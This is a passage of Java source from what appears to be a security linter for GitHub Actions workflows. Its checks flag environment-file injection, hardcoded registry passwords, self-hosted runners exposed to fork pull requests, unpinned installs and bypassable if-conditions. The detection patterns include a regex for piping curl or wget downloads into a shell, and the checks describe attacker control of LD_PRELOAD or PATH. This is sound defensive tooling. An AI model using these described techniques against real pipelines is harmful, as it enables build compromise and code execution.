                            else if (e != null && Y.text(e).equals("true")) n = e;
                        }
                        if (n != null) out.add(found(at(wf, n), s.label() + " restores a cache in a release workflow", s.key()));
                    }
                }
            }
            return out;
        }
    }

    static final class EnvInjectionInsecureCommands extends AbstractCheck {
        private static final Pattern OLD = Pattern.compile("::(set-env|add-path|set-output|save-state)\\b");
        private static final Pattern ENVFILE = Pattern.compile(">>?\\s*\"?\\$\\{?(GITHUB_ENV|GITHUB_PATH)\\b");

        EnvInjectionInsecureCommands() {
            super("KH415", "env-injection-insecure-commands", GITHUB_ACTIONS, Severity.HIGH,
                    "ACTIONS_ALLOW_UNSECURE_COMMANDS, ::set-env/::add-path workflow commands, untrusted data written to $GITHUB_ENV/$GITHUB_PATH",
                    "whoever controls the value sets LD_PRELOAD, NODE_OPTIONS or PATH for every later step",
                    "use environment files only with trusted values; never enable ACTIONS_ALLOW_UNSECURE_COMMANDS");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                Y.walkPairs(wf.root(), (k, v) -> {
                    if (k.getValue().equals("ACTIONS_ALLOW_UNSECURE_COMMANDS") && Y.text(v).trim().equalsIgnoreCase("true")) {
                        out.add(found(at(wf, k), "ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables the deprecated set-env/add-path commands", "unsecure/" + Y.line(k)));
                    }
                });
                for (Job j : wf.jobs()) {
                    for (Step s : j.steps()) {
                        for (ScriptLine l : scriptLines(s)) {
                            Matcher m = OLD.matcher(l.text());
                            if (m.find()) {
                                out.add(found(at(wf, l.line()), s.label() + " uses the deprecated ::" + m.group(1) + ":: workflow command", s.key() + "/" + m.group(1)));
                            }
                            if (ENVFILE.matcher(l.text()).find() && Expr.untrustedContext(l.text(), false).isPresent()) {
                                out.add(found(wf.privilegedUntrustedTrigger() ? Severity.CRITICAL : Severity.HIGH, at(wf, l.line()),
                                        s.label() + " writes attacker-controlled '" + Expr.untrustedContext(l.text(), false).get() + "' to an environment file", s.key() + "/envfile"));
                            }
                        }
                    }
                }
            }
            return out;
        }
    }

    static final class HardcodedCredentialInWorkflow extends AbstractCheck {
        HardcodedCredentialInWorkflow() {
            super("KH416", "hardcoded-credential-in-workflow", GITHUB_ACTIONS, Severity.CRITICAL,
                    "literal container/service registry passwords and credential-shaped values in workflow YAML",
                    "a committed credential is readable by everyone with read access and lives on in git history",
                    "reference ${{ secrets.NAME }} or use OIDC; rotate the exposed credential");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            SecretDetector d = ctx.detector();
            for (Workflow wf : ctx.workflows()) {
                Set<Integer> lines = new HashSet<>();
                for (Job j : wf.jobs()) {
                    List<Node> creds = new ArrayList<>();
                    Y.at(j.node(), "container", "credentials", "password").ifPresent(creds::add);
                    Y.entries(Y.get(j.node(), "services").orElse(null)).values()
                            .forEach(svc -> Y.at(svc, "credentials", "password").ifPresent(creds::add));
                    for (Node p : creds) {
                        String v = Y.text(p).trim();
                        if (!v.isEmpty() && !v.contains("${{")) {
                            lines.add(Y.line(p));
                            out.add(found(at(wf, p), "job '" + j.id() + "' has a literal registry password", j.id() + "/cred/" + Y.line(p)));
                        }
                    }
                }
                for (SecretDetector.Detection det : d.scan(wf.path(), ctx.text(wf.path()).orElse(""))) {
                    if (lines.add(det.line())) {
                        out.add(found(at(wf, det.line()), "credential-shaped value (" + det.ruleId() + ", " + det.redacted() + ") committed in the workflow", det.ruleId() + "/" + det.redacted()));
                    }
                }
            }
            return out;
        }
    }

    static final class SelfHostedExposed extends AbstractCheck {
        private static final Pattern HOSTED = Pattern.compile("(ubuntu|windows|macos)-[\\w.-]+");

        SelfHostedExposed() {
            super("KH417", "self-hosted-exposed", GITHUB_ACTIONS, Severity.HIGH,
                    "self-hosted or custom-label runners used by workflows that outsiders can trigger",
                    "fork PRs and comments run attacker code on a persistent machine inside your network",
                    "use ephemeral/JIT runners and require approval for fork PRs, or move these workflows to GitHub-hosted runners");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                if (!wf.triggeredBy("pull_request", "pull_request_target", "issue_comment", "issues", "discussion", "discussion_comment")) continue;
                for (Job j : wf.jobs()) {
                    List<String> labels = j.runsOn();
                    if (labels.isEmpty() || labels.stream().anyMatch(l -> l.contains("${{"))) continue;
                    boolean selfHosted = labels.contains("self-hosted") || labels.stream().noneMatch(l -> HOSTED.matcher(l).matches());
                    if (selfHosted) {
                        out.add(found(at(wf, j.runsOnNode().orElse(j.node())), "job '" + j.id() + "' runs on " + labels + " and is triggered by " + String.join("/", wf.triggers()), j.id()));
                    }
                }
            }
            return out;
        }
    }

    static final class UnpinnedToolsInSteps extends AbstractCheck {
        private static final Pattern[] BAD = {
            Pattern.compile("\\b(curl|wget)\\b[^|\\n]*\\|\\s*(sudo\\s+)?(ba|z|da)?sh\\b"),
            Pattern.compile("\\bpip3?\\s+install\\b(?![^\\n]*(--require-hashes|-r\\s|--requirement|-e\\s+\\.|\\s\\.(\\s|$)|--upgrade\\s+pip\\b|\\s+pip\\s*$))"),
            Pattern.compile("\\bnpm\\s+(install|i)\\b(?![^\\n]*--ci\\b)|\\byarn\\s+add\\b|\\bnpx\\s+[^-\\s][^@\\s]*(\\s|$)"),
            Pattern.compile("\\bgo\\s+install\\b[^\\n]*@latest\\b"),
        };
        private static final String[] WHAT = {"pipes a downloaded script into a shell", "pip-installs without --require-hashes or a lock file",
            "installs npm packages without a lockfile (use npm ci)", "go-installs @latest"};

        UnpinnedToolsInSteps() {
            super("KH418", "unpinned-tools-in-steps", GITHUB_ACTIONS, Severity.MEDIUM,
                    "curl|sh, unhashed pip install, npm install, go install @latest, container images without digests, version: latest",
                    "mutable inputs change under you; a compromised release reaches your build and release jobs",
                    "verify checksums, use lockfiles (npm ci, pip --require-hashes), pin tool versions and image digests");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                for (Job j : wf.jobs()) {
                    List<Node> images = new ArrayList<>();
                    Node container = Y.get(j.node(), "container").orElse(null);
                    if (container != null) images.add(Y.isScalar(container) ? container : Y.get(container, "image").orElse(null));
                    Y.entries(Y.get(j.node(), "services").orElse(null)).values().forEach(svc -> images.add(Y.isScalar(svc) ? svc : Y.get(svc, "image").orElse(null)));
                    for (Node img : images) {
                        if (img == null) continue;
                        String v = Y.text(img);
                        if (!v.isEmpty() && !v.contains("@sha256:") && !v.contains("${{")) {
                            out.add(found(at(wf, img), "job '" + j.id() + "' uses image '" + v + "' without a digest", j.id() + "/image/" + v));
                        }
                    }
                    for (Step s : j.steps()) {
                        s.with().forEach((k, v) -> {
                            if ((k.equals("version") || k.endsWith("-version")) && Y.text(v).trim().equalsIgnoreCase("latest")) {
                                out.add(found(at(wf, v), s.label() + " installs '" + k + ": latest'", s.key() + "/" + k));
                            }
                        });
                        for (ScriptLine l : scriptLines(s)) {
                            for (int i = 0; i < BAD.length; i++) {
                                if (BAD[i].matcher(l.text()).find()) {
                                    out.add(found(at(wf, l.line()), s.label() + " " + WHAT[i], s.key() + "/" + i));
                                    break;
                                }
                            }
                        }
                    }
                }
            }
            return out;
        }
    }

    static final class UnsoundConditions extends AbstractCheck {
        private static final Pattern ACTOR = Pattern.compile("github\\.(triggering_)?actor\\s*[!=]=\\s*'[^']*(\\[bot]|bot)'");
        private static final Pattern CONTAINS_STR = Pattern.compile("contains\\(\\s*'[^']*'\\s*,\\s*github\\.");
        private static final Pattern TERNARY = Pattern.compile("&&\\s*(''|false|0|null)\\s*\\|\\|");

        UnsoundConditions() {
            super("KH419", "unsound-conditions", GITHUB_ACTIONS, Severity.MEDIUM,
                    "if: conditions that can be bypassed or are always true",
                    "github.actor is whoever triggered the latest event (a bot-name gate is bypassable); contains('..', x) is a substring test; 'if: |' is always true",
                    "gate on github.event.pull_request.user.login, use fromJSON('[..]') lists for contains(), and write block conditions as 'if: >-' or a plain scalar");
        }

        @Override
        public List<Finding> run(RepoContext ctx) {
            List<Finding> out = new ArrayList<>();
            for (Workflow wf : ctx.workflows()) {
                List<Node> conds = new ArrayList<>();
                for (Job j : wf.jobs()) {
                    Y.get(j.node(), "if").ifPresent(conds::add);
                    for (Step s : j.steps()) Y.get(s.node(), "if").ifPresent(conds::add);
                }
                for (Node c : conds) {
                    if (!(c instanceof ScalarNode sc)) continue;
                    String v = sc.getValue();
                    String why = null;
                    if ((sc.getScalarStyle() == ScalarStyle.LITERAL || sc.getScalarStyle() == ScalarStyle.FOLDED) && v.endsWith("\n") && v.contains("${{")) {
                        why = "block-scalar condition with ${{ }} keeps a trailing newline and is always true";
                    } else if (ACTOR.matcher(v).find()) {
                        why = "gates on github.actor, which is whoever triggered the latest event";
                    } else if (CONTAINS_STR.matcher(v).find()) {
                        why = "contains('…', github.…) on a string is a substring test";
                    } else if (TERNARY.matcher(v).find()) {
                        why = "pseudo-ternary 'a && <falsy> || b' always yields b";
                    }
                    if (why != null) out.add(found(at(wf, c), "condition " + why, "if/" + Y.line(c)));
                }
            }
            return out;
        }
    }
}
